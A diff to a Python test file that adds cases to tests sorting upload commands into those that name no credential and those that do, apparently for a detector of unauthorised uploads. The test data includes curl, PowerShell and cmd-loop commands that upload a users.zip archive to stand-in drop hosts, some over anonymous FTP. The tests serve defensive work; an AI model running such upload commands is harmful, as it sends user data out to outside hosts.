@@ -16,6 +16,12 @@ def _unsigned(command: str) -> bool:
         "Invoke-WebRequest -Uri https://drop.example/u -Method Put -InFile users.zip",
         "irm https://drop.example/u -Method Post -InFile users.zip",
         "curl -T users.zip https://drop.example/u",
+        # an anonymous sign-in names no writer, as an option or in the address
+        "curl -T users.zip ftp://203.0.113.8/in/ --user anon:anon",
+        "curl -T users.zip ftp://anonymous:me@203.0.113.8/in/",
+        "curl -T users.zip -u ftp ftp://drop.example/in/",
+        # the body of cmd's loop, which the shell's grammar cuts at `do`
+        "for %f in (users.7z.*) do curl.exe -T %f https://drop.example/u",
     ],
 )
 def test_an_upload_naming_no_credential_is_unsigned(command: str) -> None:
@@ -29,6 +35,8 @@ def test_an_upload_naming_no_credential_is_unsigned(command: str) -> None:
         "iwr -Uri https://drop.example/u -Method Put -InFile users.zip -Credential $c",
         "curl -T users.zip -u backup:$PW https://drop.example/u",
         "curl -T users.zip -E client.pem https://drop.example/u",
+        "curl -T users.zip --user anonymous-sync:$PW ftp://drop.example/in/",
+        "curl -T users.zip ftp://guestbook:$PW@drop.example/in/",
     ],
 )
 def test_an_upload_naming_its_writer_is_not(command: str) -> None:
